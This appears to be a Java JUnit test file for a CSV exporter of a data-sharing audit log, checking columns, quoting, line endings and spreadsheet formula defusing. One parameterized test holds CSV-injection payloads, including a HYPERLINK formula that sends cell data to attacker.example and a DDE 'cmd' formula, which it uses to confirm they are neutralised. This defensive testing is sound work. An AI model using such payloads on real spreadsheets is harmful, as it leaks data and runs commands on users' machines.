package io.throughgate.dpo.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.throughgate.sharinglog.IndexedEntry;
import io.throughgate.sharinglog.SharingLogEvent;
import io.throughgate.sharinglog.SharingLogEvent.Field;
import io.throughgate.sharinglog.SharingLogEvent.LawfulBasis;

class SharingLogCsvTest {

    private static final String HEADER = "index,indexedAt,receivedAt,occurredAt,outcome,recordId,recordType,sender,"
            + "recipient,recipientPseudonym,agreementId,agreementVersion,purpose,article6,article9,schedule1,"
            + "statutoryGateways,consentDecisions,fieldsShared,fieldsWithheld,topic,partition,offset\r\n";

    @Test
    void writesTheHeaderWithTheColumnsInOrder() {
        assertEquals(HEADER, SharingLogCsv.of(List.of()));
        assertEquals(23, SharingLogCsv.COLUMNS.size());
    }

    @Test
    void writesEachColumnOfADeliveryInOrder() {
        String csv = SharingLogCsv.of(List.of(ReportFixtures.placementToFeltham()));

        assertEquals(HEADER + "17,2026-10-05T16:20:03Z,2026-10-05T16:20:02Z,2026-10-05T15:45:00Z,delivered,"
                + "5e0b7d34-8c1a-4f29-b6e3-2a9d0c4f7e15,placement-information,yot-camden,yoi-feltham,"
                + "k2026a.ZmVsdGhhbS1yZWNpcGllbnQtcHNldWRvbnltLTAx,london-resettlement-direct-care,1,"
                + "direct-care-resettlement,public-task,substantial-public-interest,"
                + "para-6-statutory-purposes; para-18-safeguarding,"
                + "Crime and Disorder Act 1998 s115; Children Act 2004 s10 and s11,,"
                + "/subject/name=share; /subject/dateOfBirth=share; /subject/upn=pseudonymise; "
                + "/body/offenceSummary=share; /body/firstNightRisks/selfHarmRisk=share,"
                + "/body/nextOfKin/phone=contact details go through the YOT case manager,tg.inbox.yoi-feltham,0,311"
                + "\r\n", csv);
    }

    @Test
    void joinsConsentDecisionsAndEncryptedFields() {
        List<String> row = parse(SharingLogCsv.of(List.of(ReportFixtures.healthSummaryToIcb()))).get(1);

        assertEquals(ReportFixtures.HEALTH_CONSENT.toString(), row.get(17));
        assertEquals("/subject/nhsNumber=share; /subject/nomisNumber=pseudonymise; /body/gpPracticeCode=share; "
                + "/body/selfHarmRisk/notes=encrypt; /body/medication/*/dose=encrypt", row.get(18));
        assertEquals("", row.get(19));
    }

    @Test
    void leavesCellsEmptyForWhatAWithheldDeliveryDoesNotHave() {
        String csv = SharingLogCsv.of(List.of(ReportFixtures.admissionWithheldFromEvaluation()));

        assertTrue(csv.contains(",custody-admission,yoi-feltham,eval-mopac,,london-resettlement-evaluation,1,"), csv);
        assertTrue(csv.endsWith("; /subject/dateOfBirth=no consent for evaluation covers eval-mopac,,,\r\n"), csv);
        List<String> row = parse(csv).get(1);
        assertEquals("withheld", row.get(4));
        assertEquals("", row.get(9));
        assertEquals("", row.get(17));
        assertEquals("", row.get(18));
        assertEquals(List.of("", "", ""), row.subList(20, 23));
    }

    @Test
    void writesOneRowPerEntryInTheOrderGiven() {
        List<List<String>> rows = parse(SharingLogCsv.of(ReportFixtures.entries()));

        assertEquals(5, rows.size());
        assertEquals(List.of("58", "43", "17", "42"), rows.subList(1, 5).stream().map(row -> row.get(0)).toList());
        rows.forEach(row -> assertEquals(23, row.size()));
    }

    @Test
    void endsEveryLineWithCrLf() {
        String csv = SharingLogCsv.of(ReportFixtures.entries());

        assertTrue(csv.endsWith("\r\n"));
        assertEquals(5, csv.split("\r\n", -1).length - 1);
        assertFalse(csv.replace("\r\n", "").contains("\n"));
        assertFalse(csv.replace("\r\n", "").contains("\r"));
    }

    @Test
    void quotesFieldsHoldingCommasQuotesAndLineBreaks() {
        String csv = SharingLogCsv.of(List.of(withGatewayAndReason("Children Act 2004 s10, s11",
                "the child's mother said \"not to the evaluators\"\r\nsee case note 14")));

        assertTrue(csv.contains(",\"Children Act 2004 s10, s11\","), csv);
        assertTrue(csv.contains(",\"/body/diagnoses=the child's mother said \"\"not to the evaluators\"\"\r\n"
                + "see case note 14\","), csv);
        List<List<String>> rows = parse(csv);
        assertEquals(2, rows.size());
        assertEquals("Children Act 2004 s10, s11", rows.get(1).get(16));
        assertEquals("/body/diagnoses=the child's mother said \"not to the evaluators\"\r\nsee case note 14", rows
                .get(1).get(19));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"https://attacker.example/?leak=\"&A1,\"open\")", "+44 20 7946 0733",
            "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"})
    void defusesCellsThatASpreadsheetWouldTakeForAFormula(String hostile) {
        String csv = SharingLogCsv.of(List.of(withGatewayAndReason(hostile, "diagnoses stay with clinicians")));

        assertEquals("'" + hostile, parse(csv).get(1).get(16));
    }

    @Test
    void defusesAFormulaAtTheStartOfAJoinedCellOnly() {
        String csv = SharingLogCsv.of(List.of(withGatewayAndReason("Children Act 2004 s11", "=1+1")));

        assertEquals("/body/diagnoses==1+1", parse(csv).get(1).get(19));
    }

    @Test
    void leavesOrdinaryCellsAsTheyAre() {
        assertEquals("2026-10-05T16:20:03Z", SharingLogCsv.cell("2026-10-05T16:20:03Z"));
        assertEquals("", SharingLogCsv.cell(null));
        assertEquals("'-", SharingLogCsv.cell("-"));
    }

    @Test
    void refusesAMissingListOrEntry() {
        assertThrows(NullPointerException.class, () -> SharingLogCsv.of(null));
        assertThrows(NullPointerException.class, () -> SharingLogCsv.of(Arrays.asList(ReportFixtures
                .placementToFeltham(), null)));
    }

    private static IndexedEntry withGatewayAndReason(String gateway, String reason) {
        IndexedEntry entry = ReportFixtures.healthSummaryToCamden();
        SharingLogEvent e = entry.event();
        LawfulBasis basis = new LawfulBasis("public-task", List.of(), List.of(), List.of(gateway));
        List<Field> fields = List.of(new Field("/body/diagnoses", "withhold", reason, null));
        SharingLogEvent event = new SharingLogEvent(e.eventId(), e.outcome(), e.recordId(), e.recordType(),
                e.sender(), e.recipient(), e.recipientPseudonym(), e.agreementId(), 1, e.agreementSha256(),
                e.purpose(), basis, e.consentDecisions(), fields, e.subjectPseudonyms(), e.occurredAt(),
                e.receivedAt(), e.topic(), e.partition(), e.offset(), null, null, null);
        return new IndexedEntry(entry.index(), entry.indexedAt(), event);
    }

    /** A strict reader of RFC 4180 CSV with CRLF line ends, to read back what the writer wrote. */
    private static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        int i = 0;
        while (i < csv.length()) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i += 2;
                    continue;
                }
                if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                assertEquals(0, cell.length(), "a quote inside an unquoted cell at " + i);
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r') {
                assertEquals('\n', csv.charAt(i + 1), "CR without LF at " + i);
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                assertTrue(c != '\n', "LF without CR at " + i);
                cell.append(c);
            }
            i++;
        }
        assertFalse(quoted, "unterminated quote");
        assertEquals(0, cell.length() + row.size(), "last line without CRLF");
        return rows;
    }
}
